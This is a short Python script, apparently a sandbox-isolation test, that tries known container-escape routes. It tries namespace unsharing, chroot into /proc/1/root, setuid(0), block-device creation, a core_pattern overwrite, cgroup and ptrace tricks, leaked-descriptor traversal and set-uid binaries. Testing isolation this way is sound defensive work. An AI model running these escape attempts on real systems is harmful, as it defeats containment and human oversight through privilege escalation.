"""Tries the known ways out of a box: new namespaces, mounts, chroot, other processes' roots, set-uid programs."""
# ruff: noqa: SIM115

# %% merge_pair
import ctypes
import glob
import os
import subprocess

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000000, 0x40000000):
    print("unshare", libc.unshare(flags), ctypes.get_errno())
for call in (
    lambda: os.chroot("/proc/1/root"),
    lambda: os.setuid(0),
    lambda: os.setgroups([0]),
    lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)),
    lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"),
    lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
    lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("1"),
    lambda: os.open("/proc/1/root" + CLASS_FOLDER, os.O_RDONLY),
):
    try:
        print("done:", call())
    except (OSError, ValueError) as error:
        print(error)
print("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
print("ptrace", libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
for fd in range(3, 64):  # a folder that was left open leads out
    for way in ("..", "../..", "../../.." + CLASS_FOLDER):
        try:
            print("HACKED:", fd, os.listdir(os.open(way, os.O_RDONLY, dir_fd=fd)))
        except OSError:
            continue
for program in ("su", "sudo", "mount", "ping", "newuidmap"):
    for path in glob.glob(f"/*bin/{program}") + glob.glob(f"/usr/*bin/{program}"):
        done = subprocess.run([path, "-c", "id"], capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
        print(path, done.returncode, done.stdout)
print(os.listdir("/"), os.path.exists(CLASS_FOLDER), os.path.exists(HOME_FOLDER))
